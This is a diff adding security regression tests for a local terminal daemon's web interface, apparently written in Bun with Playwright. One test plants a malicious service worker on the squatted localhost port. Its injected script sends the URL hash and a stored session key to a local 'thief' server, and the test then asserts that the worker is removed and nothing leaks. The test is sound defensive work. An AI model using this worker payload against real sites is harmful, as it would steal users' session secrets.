@@ -213,6 +213,10 @@ test("no worker may run on the page's origin, and a login (or a forgotten login)
   const refused = await fetch(`${base}/`, { headers: { cookie, "sec-fetch-site": "none" } });
   expect(refused.status).toBe(401);
   expect(refused.headers.get("clear-site-data")).toContain('"storage"');
+  // The browser's update check of a worker someone else registered here removes it.
+  const update = await fetch(`${base}/sw.js`, { headers: { "service-worker": "script" } });
+  expect(update.status).toBe(404);
+  expect(update.headers.get("clear-site-data")).toContain('"storage"');
 });
 
 test.if(CHROMIUM !== undefined)("in chromium: a program that takes the remembered port while the daemon is down gets no login from the open page", async () => {
@@ -266,6 +270,62 @@ test.if(CHROMIUM !== undefined)("in chromium: a program that takes the remembere
     expect(JSON.parse((await t4a(["list", "--json"])).stdout).terminals).toEqual([]);
   } finally {
     squatter?.stop(true);
+    await browser.close();
+  }
+}, 90_000);
+
+test.if(CHROMIUM !== undefined)("in chromium: a service worker planted at the remembered port while the daemon was down is gone after the next login", async () => {
+  const { chromium } = await import("playwright-core");
+  const port = Number(new URL(base).port);
+  const browser = await chromium.launch({ executablePath: CHROMIUM, args: ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"] });
+  const stolen: string[] = [];
+  const thief = Bun.serve({ hostname: "127.0.0.1", port: 0, fetch: (request) => (stolen.push(request.url), new Response("", { headers: { "access-control-allow-origin": "*" } })) });
+  const worker = `self.addEventListener("install", () => self.skipWaiting());
+self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
+self.addEventListener("fetch", (event) => {
+  const url = new URL(event.request.url);
+  if (event.request.mode === "navigate" && !url.searchParams.has("login")) {
+    event.respondWith(new Response("<p id=evil>evil</p><script>fetch('http://127.0.0.1:${thief.port}/k?' + encodeURIComponent(location.hash + ' ' + sessionStorage.getItem('t4a-key')))</script>", { headers: { "content-type": "text/html" } }));
+  } else event.respondWith(fetch(event.request));
+});`;
+  let squatter: ReturnType<typeof Bun.serve> | undefined;
+  try {
+    const page = await browser.newPage();
+    await page.goto((await t4a(["web"])).stdout);
+    await page.waitForSelector("#new");
+    await t4a(["shutdown"]);
+    squatter = await waitFor(() => {
+      try {
+        return Bun.serve({
+          hostname: "127.0.0.1",
+          port,
+          fetch(request) {
+            if (new URL(request.url).pathname === "/sw.js") return new Response(worker, { headers: { "content-type": "text/javascript" } });
+            return new Response(`<script>navigator.serviceWorker.register("/sw.js").then(() => navigator.serviceWorker.ready).then(() => (document.title = "planted"))</script>`, { headers: { "content-type": "text/html" } });
+          },
+        });
+      } catch {
+        return undefined;
+      }
+    }, 10_000, "the port to be free");
+    // The user reloads while the port is someone else's: a worker is registered on the origin.
+    await page.reload();
+    await page.waitForFunction(() => document.title === "planted", undefined, { timeout: 15_000 });
+    squatter.stop(true);
+    squatter = undefined;
+    await waitFor(async () => (await t4a(["web", "--listen", `127.0.0.1:${port}`])).code === 0, 15_000, "the web server back");
+    await t4a(["web", "--logout-all"]);
+    // A fresh login in the same browser: the real page, and the worker gone with what it could read.
+    await page.goto((await t4a(["web"])).stdout);
+    await page.waitForSelector("#new", { timeout: 15_000 });
+    expect(await page.$("#evil")).toBeNull();
+    expect(await page.evaluate(() => navigator.serviceWorker.getRegistrations().then((list) => list.length))).toBe(0);
+    await page.reload();
+    await page.waitForSelector("#new", { timeout: 15_000 });
+    expect(stolen).toEqual([]);
+  } finally {
+    squatter?.stop(true);
+    thief.stop(true);
     await browser.close();
   }
 }, 90_000);
